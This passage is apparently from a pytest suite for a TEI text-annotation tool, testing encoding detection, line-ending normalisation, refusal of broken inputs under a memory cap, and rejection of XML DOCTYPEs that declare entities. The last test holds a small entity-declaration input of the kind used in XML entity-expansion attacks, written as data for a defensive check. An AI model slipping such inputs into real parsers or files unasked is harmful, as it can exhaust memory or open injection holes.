    assert any("note: line endings converted to LF" in line for line in notes), notes
    exported = annotator("export", str(out), "-f", "txt", "-o", "-")
    assert exported.stdout == "Grüße\naus Köln"


@pytest.mark.timeout(60)
@pytest.mark.parametrize("name", broken_inputs())
def test_window_refuses_broken_text_and_keeps_the_document(
        name: str, tmp_path: Path, annotated_window: MainWindow, dialogs: Dialogs) -> None:
    path, words = broken_path(name, tmp_path)
    before = window_state(annotated_window)
    with memory_capped(2 << 30):  # /dev/zero read whole would take all memory
        opened = annotated_window.files.open_path(path, ask=False)
    assert not opened
    assert len(dialogs.errors) == 1, dialogs.errors
    assert re.search(words, dialogs.errors[0]), dialogs.errors[0]
    assert window_state(annotated_window) == before


def test_window_says_what_it_normalised(tmp_path: Path, annotated_window: MainWindow,
                                        dialogs: Dialogs) -> None:
    path = tmp_path / "mac.txt"
    path.write_bytes("Grüße\raus Köln\r".encode("utf-16-be"))
    assert annotated_window.files.open_path(path, ask=False)
    assert dialogs.errors == []
    assert annotated_window.annotated.document.text == "Grüße\naus Köln"
    shown = annotated_window.statusBar().currentMessage()
    assert "UTF-16 BE" in shown and "line endings converted to LF" in shown


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig"])
def test_tei_in_another_unicode_encoding_opens_as_tei(codec: str, tmp_path: Path) -> None:
    """A TEI file re-saved by another tool as UTF-16 (with or without byte-order mark) is
    still TEI: it must not be taken for a plain-text article full of markup."""
    text = VALID.replace('encoding="UTF-8"', f'encoding="{codec.upper().removesuffix("-SIG")}"')
    path = tmp_path / "other.xml"
    path.write_bytes(text.encode(codec))
    opened = open_document(path)
    assert opened.tei_path == path
    assert opened.document.document.text == f"{FIRST}\n{SECOND}"
    assert [a.id for a in opened.document.annotations] == ["a1"]


@pytest.mark.parametrize("before", ["", "<!--" + "x" * 40_000 + "-->\n",
                                    "<?pi " + "y" * 40_000 + "?>\n"])
def test_a_doctype_in_a_large_file_is_seen_after_a_long_prolog(before: str) -> None:
    """The prolog is decoded a little at a time (a whole large file is not decoded to look
    at its first lines): a DOCTYPE with declarations after a comment or processing
    instruction longer than the first piece, in a file far larger than it, is still
    refused unread."""
    doctype = '<!DOCTYPE TEI [<!ENTITY lol "lol">]>'
    text = with_doctype(before + doctype, "&lol;").replace(
        f">{SECOND}<", f">{SECOND} {'z ' * 60_000}<", 1)
    with pytest.raises(ReadError, match="DOCTYPE that declares entities"):
        parsing.parse_xml(text.encode(), "large.xml")
    plain = with_doctype(before).replace(f">{SECOND}<", f">{SECOND} {'z ' * 60_000}<", 1)
    assert parsing.parse_xml(plain.encode(), "large.xml")[1] == []
